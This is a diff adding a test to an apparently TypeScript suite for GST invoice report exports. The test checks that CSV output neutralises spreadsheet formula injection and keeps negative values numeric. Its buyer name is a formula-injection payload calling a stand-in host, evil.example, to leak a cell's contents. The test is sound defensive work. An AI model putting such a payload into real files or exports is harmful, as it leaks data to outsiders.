@@ -240,3 +240,22 @@ describe("which table an invoice goes to", () => {
     expect(invoiceTable(invoice("2026-10-01T10:00:00", rs(5_00_000), { buyer: { ...BUYER, address: "", state: "Karnataka", stateCode: "29" } }))).toBe("b2b");
   });
 });
+
+describe("a sheet opened in a spreadsheet", () => {
+  it("writes a buyer's name that looks like a formula behind an apostrophe, and a negative value as the number it is", async () => {
+    const name = `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`;
+    await issueInvoice(api, customerId, { at: ist("2027-02-10T12:00:00"), stateCode: "29", buyer: { gstin: BUYER.gstin, name }, lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(10_000), quantity: 1 }] });
+    const small = await issueInvoice(api, customerId, { at: ist("2027-02-11T12:00:00"), stateCode: "27", lines: [{ hsnCode: "9401", gstRate: 18, grossPaise: rs(5_000), quantity: 1 }] });
+    // March's only document is a note against February's sale: March's B2C others go below zero.
+    await issueCreditNote(api, small, rs(1_180), ist("2027-03-02T12:00:00"));
+
+    const b2bFile = await api.request("GET", "/admin/reports/gst/b2b?month=2027-02", { token });
+    const [columns, row] = parse(b2bFile.json as string) as string[][];
+    expect(row[columns.indexOf("Receiver Name")]).toBe(`'${name}`);
+    expect(row[columns.indexOf("Invoice Value")]).toBe("10000.00");
+
+    const b2csFile = await api.request("GET", "/admin/reports/gst/b2cs?month=2027-03", { token });
+    const [b2csColumns, b2csRow] = parse(b2csFile.json as string) as string[][];
+    expect(b2csRow[b2csColumns.indexOf("Taxable Value")]).toBe("-1000.00");
+  });
+});
